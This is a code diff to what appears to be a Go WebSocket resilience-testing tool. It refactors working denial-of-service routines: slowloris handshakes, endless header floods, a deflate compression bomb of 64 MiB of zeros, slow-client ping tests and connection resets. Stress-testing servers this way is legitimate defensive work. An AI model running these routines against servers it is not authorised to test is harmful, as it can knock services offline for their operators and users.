@@ -64,7 +64,7 @@ func (a *attacker) pause() time.Duration { return max(a.o.Patience/200, time.Mil
 
 func slowLoris(ctx context.Context, a *attacker) error {
 	return a.each(ctx, a.dial, func(ctx context.Context, c net.Conn) error {
-		request := "GET / HTTP/1.1\r\nHost: " + a.url.Host + "\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nX: "
+		request := "GET / HTTP/1.1\r\nHost: " + a.target.url.Host + "\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nX: "
 		go io.Copy(io.Discard, c)
 		for i := 0; ; i++ {
 			if _, err := c.Write([]byte{append([]byte(request), 'x')[min(i, len(request))]}); err != nil {
@@ -80,7 +80,7 @@ func slowLoris(ctx context.Context, a *attacker) error {
 func endlessHead(ctx context.Context, a *attacker) error {
 	return a.each(ctx, a.dial, func(ctx context.Context, c net.Conn) error {
 		line := bytes.Repeat([]byte("X-Field: 0123456789abcdef0123456789abcdef\r\n"), 100)
-		if _, err := io.WriteString(c, "GET / HTTP/1.1\r\nHost: "+a.url.Host+"\r\n"); err != nil {
+		if _, err := io.WriteString(c, "GET / HTTP/1.1\r\nHost: "+a.target.url.Host+"\r\n"); err != nil {
 			return err
 		}
 		for range (16 << 20) / len(line) {
@@ -157,24 +157,23 @@ func (a *attacker) flood(ctx context.Context, f ws.Frame) error {
 }
 
 func sendBomb(ctx context.Context, a *attacker) error {
-	var packed bytes.Buffer
-	w, err := flate.NewWriter(&packed, flate.BestCompression)
-	if err != nil {
-		return err
-	}
-	zeros := make([]byte, 1<<20)
-	for range 64 {
-		w.Write(zeros)
-	}
-	w.Flush()
-	payload := bytes.TrimSuffix(packed.Bytes(), []byte("\x00\x00\xff\xff"))
 	open := func(ctx context.Context) (net.Conn, error) {
-		c, hs, err := a.offer(ctx, httphead.NewOption("permessage-deflate", nil))
+		c, hs, err := a.offer(ctx, httphead.NewOption(deflateName, nil))
 		if err == nil && len(hs.Extensions) == 0 {
 			c.Close()
-			return nil, fmt.Errorf("wstest: the server does not compress")
+			err = cannotAttack("the server does not agree to compression")
 		}
 		return c, err
+	}
+	c, err := open(ctx)
+	if _, ok := errors.AsType[cannotAttack](err); ok {
+		return err
+	} else if err == nil {
+		c.Close()
+	}
+	payload, err := packedZeros(64)
+	if err != nil {
+		return err
 	}
 	return a.each(ctx, open, func(_ context.Context, c net.Conn) error {
 		f := ws.NewBinaryFrame(payload)
@@ -186,6 +185,21 @@ func sendBomb(ctx context.Context, a *attacker) error {
 		_, err := io.Copy(sampler{a}, c)
 		return err
 	})
+}
+
+// packedZeros returns a message of some MiB of zeros, compressed.
+func packedZeros(mebibytes int) ([]byte, error) {
+	var packed bytes.Buffer
+	w, err := flate.NewWriter(&packed, flate.BestCompression)
+	if err != nil {
+		return nil, err
+	}
+	zeros := make([]byte, mebi)
+	for range mebibytes {
+		w.Write(zeros)
+	}
+	w.Flush()
+	return bytes.TrimSuffix(packed.Bytes(), []byte("\x00\x00\xff\xff")), nil
 }
 
 // sampler measures while it throws away what the server sends.
@@ -211,20 +225,26 @@ func bytePerPacket(ctx context.Context, a *attacker) error {
 					return fmt.Errorf("%w: the connection of a slow client ends: %w", errHarm, err)
 				}
 			}
-			f, err := ws.ReadFrame(c)
-			if err != nil {
+			if err := awaitPong(c, body); err != nil {
 				return fmt.Errorf("%w: the connection of a slow client ends: %w", errHarm, err)
-			}
-			if f.Header.OpCode != ws.OpPong || !bytes.Equal(f.Payload, body) {
-				return fmt.Errorf("%w: %q is answered by opcode %d, %q", errHarm, body, f.Header.OpCode, f.Payload)
 			}
 		}
 		return nil
 	})
 }
 
+// awaitPong reads until the pong of a ping. Other frames may come before it.
+func awaitPong(c net.Conn, body []byte) error {
+	for {
+		f, err := ws.ReadFrame(c)
+		if err != nil || f.Header.OpCode == ws.OpPong && bytes.Equal(f.Payload, body) {
+			return err
+		}
+	}
+}
+
 func resets(ctx context.Context, a *attacker) error {
-	request := "GET / HTTP/1.1\r\nHost: " + a.url.Host + "\r\nUpgr"
+	request := "GET / HTTP/1.1\r\nHost: " + a.target.url.Host + "\r\nUpgr"
 	for _, state := range []struct {
 		open func(context.Context) (net.Conn, error)
 		sent []byte
